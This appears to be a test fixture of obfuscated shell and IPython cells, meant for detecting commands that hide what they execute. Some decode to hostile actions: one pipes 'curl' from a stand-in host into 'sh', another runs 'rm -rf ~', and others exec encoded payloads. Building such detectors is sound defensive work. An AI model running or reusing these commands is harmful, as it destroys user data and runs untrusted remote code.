# Shell and IPython lines that hide what they run: variables as commands, decoding into a shell,
# nested python -c, heredocs, run-time built commands.
#%% shell
echo Y3VybCBodHRwOi8veC5leGFtcGxlL3MgfCBzaAo= | base64 -d | sh
#%% shell
eval "$(echo cm0gLXJmIH4K | base64 --decode)"
#%% shell
bash -c "$PAYLOAD"
#%% shell
python3 -c "import base64; exec(base64.b64decode('aW1wb3J0IG9z'))"
#%% shell
python -c "__import__('o'+'s').system('id')"
#%% shell
python3 - <<'EOF'
import os
os.system("rm -rf ~/work")
EOF
#%% shell
$CMD --force
#%% shell
xxd -r -p payload.hex | bash
#%% shell
cat blob.gz | gunzip | python3
#%% shell
sh -c "$(cat /tmp/next_step)"
#%% shell
perl <<'EOF'
system("id");
EOF
#%% shell
echo 'vq' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh
#%%
cmd = build_command()
!{cmd}
#%%
!$SHELL_CMD
#%%
!python -c "exec(__import__('base64').b64decode('aWQ='))"
#%%
%%bash
eval "$(printf '%s' "$X" | base64 -d)"
#%%
get_ipython().system("echo " + arg)
#%%
!python3 -c "import ctypes; ctypes.CDLL(None).system(b'id')"
